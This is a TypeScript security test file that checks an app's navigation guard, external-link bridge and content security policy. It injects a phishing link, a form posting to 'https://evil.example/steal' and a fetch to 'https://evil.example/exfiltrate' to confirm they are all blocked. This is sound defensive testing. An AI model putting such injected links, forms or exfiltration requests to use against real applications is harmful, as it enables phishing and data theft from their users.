import { describe, expect, it } from 'vitest';
import { CONTENT_SECURITY_POLICY } from '../../shared/csp';
import { appSuite } from './harness/suite';

const suite = appSuite();

describe('navigation cannot leave the app', () => {
  it('a legal-source link goes to the system browser through the bridge; the window stays', async () => {
    const { page, context, foreignRequests } = await suite.open({ stubBridge: true });
    await page.locator('nav a').last().click();
    const before = page.url();
    await page.locator('.links a').first().click();
    const calls = () => page.evaluate(() => (window as unknown as { __bridgeCalls: { method: string; payload: unknown }[] }).__bridgeCalls);
    await expect.poll(async () => (await calls()).some((c) => c.method === 'openExternal')).toBe(true);
    expect(page.url()).toBe(before);
    expect((await calls()).filter((c) => c.method === 'openExternal')).toEqual([
      { method: 'openExternal', payload: { url: 'https://adilet.zan.kz/rus/docs/Z1300000094' } },
    ]);
    expect(foreignRequests).toEqual([]);
    await context.close();
  });

  it('an injected link to a foreign site does not navigate, and its request never leaves', async () => {
    const { page, context, foreignRequests } = await suite.open();
    const before = page.url();
    await page.evaluate(() => {
      const a = document.createElement('a');
      a.href = 'https://evil.example/phish';
      a.textContent = 'evil';
      a.id = 'evil';
      document.querySelector('main')!.append(a);
      // Listening on window, last on the click's way up: sees whether the app's guard prevented the navigation.
      window.addEventListener('click', (event) => {
        if (event.target === a)
          (window as unknown as { __evilClick: { defaultPrevented: boolean } }).__evilClick = { defaultPrevented: event.defaultPrevented };
      });
    });
    await page.locator('#evil').click();
    const click = await page.waitForFunction(() => (window as unknown as { __evilClick?: { defaultPrevented: boolean } }).__evilClick);
    expect(await click.jsonValue()).toEqual({ defaultPrevented: true });
    expect(page.url()).toBe(before);
    expect(foreignRequests).toEqual([]);
    await context.close();
  });

  it('forms cannot post anywhere (form-action none)', async () => {
    const { page, context, problems } = await suite.open();
    const before = page.url();
    await page.evaluate(() => {
      const form = document.createElement('form');
      form.action = 'https://evil.example/steal';
      form.method = 'post';
      document.body.append(form);
      form.submit();
    });
    await expect.poll(() => problems.some((p) => p.includes('form-action'))).toBe(true);
    expect(page.url()).toBe(before);
    await context.close();
  });
});

describe('content security policy', () => {
  it('is sent as a header and carried in the page', async () => {
    const response = await fetch(`${suite.server.url}/index.html`);
    expect(response.headers.get('content-security-policy')).toBe(CONTENT_SECURITY_POLICY);
    const html = await response.text();
    expect(html).toContain(`content="${CONTENT_SECURITY_POLICY}"`);
  });

  it('blocks inline scripts and remote connections (no unsafe-eval is asserted in test/unit/shared/csp)', async () => {
    const { page, context, foreignRequests } = await suite.open();
    const outcome = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.__inlineRan = true';
      document.body.append(script);
      let fetchBlocked = false;
      try {
        await fetch('https://evil.example/exfiltrate');
      } catch {
        fetchBlocked = true;
      }
      return { inlineRan: (window as unknown as { __inlineRan?: boolean }).__inlineRan === true, fetchBlocked };
    });
    expect(outcome).toEqual({ inlineRan: false, fetchBlocked: true });
    expect(foreignRequests).toEqual([]);
    await context.close();
  });
});
